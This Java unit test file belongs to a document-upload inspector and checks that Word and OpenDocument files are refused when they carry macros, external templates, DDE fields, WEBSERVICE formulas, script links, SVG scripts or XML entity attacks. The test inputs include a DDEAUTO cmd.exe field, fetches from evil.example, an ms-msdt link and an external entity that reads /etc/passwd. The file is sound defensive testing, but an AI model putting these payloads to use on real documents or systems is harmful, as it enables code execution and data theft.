package org.sluis.inspection;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.sluis.kernel.Problem;

/** Office documents: they show something, and neither run nor fetch anything (security rows F4 and F6 to F8). */
class OfficeDocumentsTest {

    private final Laboratory laboratory = Laboratory.shared();

    @Test
    void wordDocumentPassesAndEachPartIsScanned() {
        byte[] document = new WordDocument()
                .external("hyperlink", "https://example.org/x")
                .bytes();
        Inspection found = laboratory.inspect("letter.docx", document);
        assertThat(found.refusal()).isEmpty();
        assertThat(found.mediaType())
                .isEqualTo("application/vnd.openxmlformats-officedocument.wordprocessingml.document");
        assertThat(laboratory.scanned()).hasSize(5).contains(document.length);
        assertThat(laboratory.refusal("letter.xlsx", document)).contains(Problem.TYPE_MISMATCH);
        assertThat(laboratory.refusal("letter.zip", document)).contains(Problem.TYPE_MISMATCH);
    }

    @Test
    void malwareInAPartIsNamed() {
        byte[] document =
                new WordDocument().part("word/media/x.txt", Laboratory.MALWARE).bytes();
        assertThat(laboratory.refusal("letter.docx", document)).contains(Problem.MALWARE_FOUND);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "word/vbaProject.bin",
                "word/vbaData.xml",
                "word/activeX/activeX1.xml",
                "xl/macrosheets/sheet1.xml",
                "WORD/VBAPROJECT.BIN"
            })
    void macrosByName(String part) {
        assertThat(laboratory.refusal(
                        "a.docx", new WordDocument().part(part, "<a/>").bytes()))
                .contains(Problem.ACTIVE_CONTENT);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "application/vnd.ms-word.document.macroEnabled.main+xml",
                "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
                "application/vnd.ms-office.vbaProject",
                "application/vnd.ms-excel.macrosheet+xml",
                "application/vnd.ms-office.activeX+xml"
            })
    void macrosByDeclaration(String type) {
        assertThat(laboratory.refusal(
                        "a.docx", new WordDocument().mainType(type).bytes()))
                .contains(Problem.ACTIVE_CONTENT);
        assertThat(laboratory.refusal(
                        "a.docx", new WordDocument().declared("/x.bin", type).bytes()))
                .contains(Problem.ACTIVE_CONTENT);
    }

    @ParameterizedTest
    @CsvSource({
        "attachedTemplate,https://evil.example/t.dotm",
        "oleObject,file://server/share/x.docx",
        "image,\\\\server\\share\\x.png",
        "image,http://evil.example/pixel.png",
        "frame,https://evil.example/",
        "subDocument,file:///C:/x.docx",
        "externalLinkPath,https://evil.example/x.xlsx",
        "hyperlink,\\\\server\\share\\x.docx",
        "hyperlink,file://server/x.docx",
        "hyperlink,javascript:alert(1)",
        "hyperlink,ms-msdt:/id"
    })
    void linksThatAreFetchedAndLinksToShares(String kind, String target) {
        assertThat(laboratory.refusal(
                        "a.docx", new WordDocument().external(kind, target).bytes()))
                .contains(Problem.ACTIVE_CONTENT);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"http://example.org", "mailto:a@example.org", "#place", "..\\other.docx", "file:///C:\\x.docx"})
    void ordinaryHyperlinksPass(String target) {
        assertThat(laboratory.refusal(
                        "a.docx",
                        new WordDocument().external("hyperlink", target).bytes()))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"'/>",
                "<w:r><w:fldChar w:fldCharType='begin'/><w:instrText>DD</w:instrText><w:instrText>E cmd</w:instrText>"
                        + "<w:fldChar w:fldCharType='end'/></w:r>",
                "<w:r><w:instrText> INCLUDEPICTURE \"http://evil.example/x.png\" </w:instrText><w:fldChar w:fldCharType='end'/></w:r>",
                "<w:pict><v:imagedata src='http://evil.example/x.png'/></w:pict>",
                "<w:f>WEBSERVICE(\"http://evil.example\")</w:f>",
                "<w:ddeLink ddeService='cmd'/>"
            })
    void fieldsAndFormulasThatFetchOrRun(String body) {
        assertThat(laboratory.refusal("a.docx", new WordDocument().body(body).bytes()))
                .contains(Problem.ACTIVE_CONTENT);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<w:fldSimple w:instr=' PAGE '/>",
                "<w:r><w:fldChar w:fldCharType='begin'/><w:instrText> HYPERLINK \"https://example.org\" </w:instrText>"
                        + "<w:fldChar w:fldCharType='separate'/><w:fldChar w:fldCharType='end'/></w:r>",
                "<w:f>SUM(A1:A2)</w:f>"
            })
    void ordinaryFieldsPass(String body) {
        assertThat(laboratory.refusal("a.docx", new WordDocument().body(body).bytes()))
                .isEmpty();
    }

    @Test
    void programsPagesAndUnknownBytesAreNoParts() {
        assertThat(laboratory.refusal(
                        "a.docx",
                        new WordDocument().part("word/media/a.bin", "MZ\0\0").bytes()))
                .contains(Problem.ACTIVE_CONTENT);
        assertThat(laboratory.refusal(
                        "a.docx",
                        new WordDocument().part("word/afchunk.htm", "<html><p>").bytes()))
                .contains(Problem.TYPE_NOT_ALLOWED);
        byte[] unknown = {1, 2, 3, 0, 5};
        assertThat(laboratory.refusal(
                        "a.docx",
                        new WordDocument().part("word/media/x.bin", unknown).bytes()))
                .contains(Problem.TYPE_NOT_ALLOWED);
        assertThat(laboratory.refusal(
                        "a.docx",
                        new WordDocument()
                                .part("word/printerSettings1.bin", unknown)
                                .bytes()))
                .isEmpty();
    }

    @Test
    void drawingsMayNotRun() {
        String drawing = "<svg xmlns='http://www.w3.org/2000/svg'>%s</svg>";
        assertThat(laboratory.refusal(
                        "a.docx",
                        new WordDocument()
                                .part("word/media/a.svg", drawing.formatted("<g/>"))
                                .bytes()))
                .isEmpty();
        assertThat(laboratory.refusal(
                        "a.docx",
                        new WordDocument()
                                .part("word/media/a.svg", drawing.formatted("<script/>"))
                                .bytes()))
                .contains(Problem.ACTIVE_CONTENT);
        assertThat(laboratory.refusal(
                        "a.docx",
                        new WordDocument()
                                .part("word/media/a.svg", drawing.formatted("<g onload='x'/>"))
                                .bytes()))
                .contains(Problem.ACTIVE_CONTENT);
    }

    @Test
    void entitiesAndDocumentTypesAreNotRead() {
        String bomb = "<!DOCTYPE a [<!ENTITY b 'x'><!ENTITY c '&b;&b;'>]><a>&c;</a>";
        String outside = "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>";
        for (String xml : new String[] {bomb, outside}) {
            assertThat(laboratory.refusal(
                            "a.docx",
                            new WordDocument()
                                    .part("word/x.xml", "<?xml version='1.0'?>" + xml)
                                    .bytes()))
                    .contains(Problem.UNREADABLE_CONTENT);
        }
    }

    @Test
    void documentWithoutItsMainPartIsNone() {
        assertThat(laboratory.refusal(
                        "a.docx", new WordDocument().mainType("application/xml").bytes()))
                .contains(Problem.TYPE_NOT_ALLOWED);
    }

    @Test
    void openDocumentPasses() {
        byte[] text = new WrittenText()
                .body("<text:a xlink:href='https://example.org'/><draw:image xlink:href='Pictures/1.png'/>")
                .bytes();
        Inspection found = laboratory.inspect("a.odt", text);
        assertThat(found.refusal()).isEmpty();
        assertThat(found.mediaType()).isEqualTo("application/vnd.oasis.opendocument.text");
        assertThat(laboratory.scanned()).hasSize(4);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<draw:image xlink:href='http://evil.example/x.png'/>",
                "<draw:object xlink:href='//server/share/x.odt'/>",
                "<text:section-source xlink:href='../other.odt'/>",
                "<text:a xlink:href='vnd.sun.star.script:Standard.Module1.Main'/>",
                "<text:a xlink:href='file://server/x'/>",
                "<script:event-listener script:event-name='dom:load'/>",
                "<text:script script:language='JavaScript'>x</text:script>",
                "<table:table-cell table:formula='of:=WEBSERVICE(\"http://evil.example\")'/>",
                "<text:dde-connection-decl office:name='x'/>"
            })
    void openDocumentThatRunsOrFetches(String body) {
        assertThat(laboratory.refusal("a.odt", new WrittenText().body(body).bytes()))
                .contains(Problem.ACTIVE_CONTENT);
    }

    @Test
    void macrosOfOpenDocuments() {
        assertThat(laboratory.refusal(
                        "a.odt",
                        new WrittenText()
                                .part("Basic/Standard/Module1.xml", "<a/>")
                                .bytes()))
                .contains(Problem.ACTIVE_CONTENT);
        assertThat(laboratory.refusal(
                        "a.odt",
                        new WrittenText().part("Scripts/python/x.py", "x").bytes()))
                .contains(Problem.ACTIVE_CONTENT);
    }

    @Test
    void encryptedOpenDocuments() {
        String entry =
                "<manifest:file-entry manifest:full-path='content.xml'><manifest:encryption-data/></manifest:file-entry>";
        assertThat(laboratory.refusal(
                        "a.odt", new WrittenText().manifestEntry(entry).bytes()))
                .contains(Problem.ENCRYPTED_CONTENT);
        assertThat(laboratory.refusal(
                        "a.odt",
                        new WrittenText().part("encrypted-package", "x").bytes()))
                .contains(Problem.ENCRYPTED_CONTENT);
    }

    @Test
    void packageOfTwoKindsIsAMismatchAndOtherPackagesAreNotTaken() {
        assertThat(laboratory.refusal(
                        "a.odt",
                        new WrittenText().part("[Content_Types].xml", "<a/>").bytes()))
                .contains(Problem.TYPE_MISMATCH);
        assertThat(laboratory.refusal(
                        "a.odt", new WrittenText().type("application/epub+zip").bytes()))
                .contains(Problem.TYPE_NOT_ALLOWED);
    }

    @ParameterizedTest
    @CsvSource({
        "EncryptedPackage,ENCRYPTED_CONTENT",
        "VBA,ACTIVE_CONTENT",
        "_VBA_PROJECT_CUR,ACTIVE_CONTENT",
        "WordDocument,TYPE_NOT_ALLOWED"
    })
    void compoundFilesAreNamedForWhatTheyHold(String entry, Problem problem) {
        assertThat(laboratory.refusal("a.docx", compound(entry))).contains(problem);
    }

    @Test
    void objectsInDocumentsAreOpened() {
        byte[] macros = new WordDocument()
                .part("word/embeddings/oleObject1.bin", compound("VBA"))
                .bytes();
        assertThat(laboratory.refusal("a.docx", macros)).contains(Problem.ACTIVE_CONTENT);
        byte[] harmless = new WordDocument()
                .part("word/embeddings/oleObject1.bin", compound("Contents"))
                .bytes();
        assertThat(laboratory.refusal("a.docx", harmless)).isEmpty();
    }

    @Test
    void documentInADocumentIsTakenApart() {
        byte[] inner = new WordDocument().part("word/vbaProject.bin", "x").bytes();
        assertThat(laboratory.refusal(
                        "a.docx",
                        new WordDocument().part("word/embeddings/a.docx", inner).bytes()))
                .contains(Problem.ACTIVE_CONTENT);
    }

    /** A compound file whose directory holds one empty stream. */
    private static byte[] compound(String name) {
        ByteBuffer file = ByteBuffer.allocate(512 * 3).order(ByteOrder.LITTLE_ENDIAN);
        file.putLong(0, 0xE11AB1A1E011CFD0L)
                .putShort(26, (short) 3)
                .putShort(28, (short) -2)
                .putShort(30, (short) 9);
        file.putShort(32, (short) 6)
                .putInt(44, 1)
                .putInt(48, 1)
                .putInt(56, 4096)
                .putInt(60, -2)
                .putInt(68, -2);
        Arrays.fill(file.array(), 76, 512, (byte) 0xff);
        file.putInt(76, 0).putInt(512, -3).putInt(516, -2);
        Arrays.fill(file.array(), 520, 1024, (byte) 0xff);
        entry(file, 1024, "Root Entry", 5);
        entry(file, 1024 + 128, name, 2);
        return file.array();
    }

    private static void entry(ByteBuffer file, int position, String name, int kind) {
        byte[] letters = name.getBytes(UTF_16LE);
        file.put(position, letters)
                .putShort(position + 64, (short) (letters.length + 2))
                .put(position + 66, (byte) kind);
        file.putInt(position + 68, -1)
                .putInt(position + 72, -1)
                .putInt(position + 76, -1)
                .putInt(position + 116, -2);
    }
}
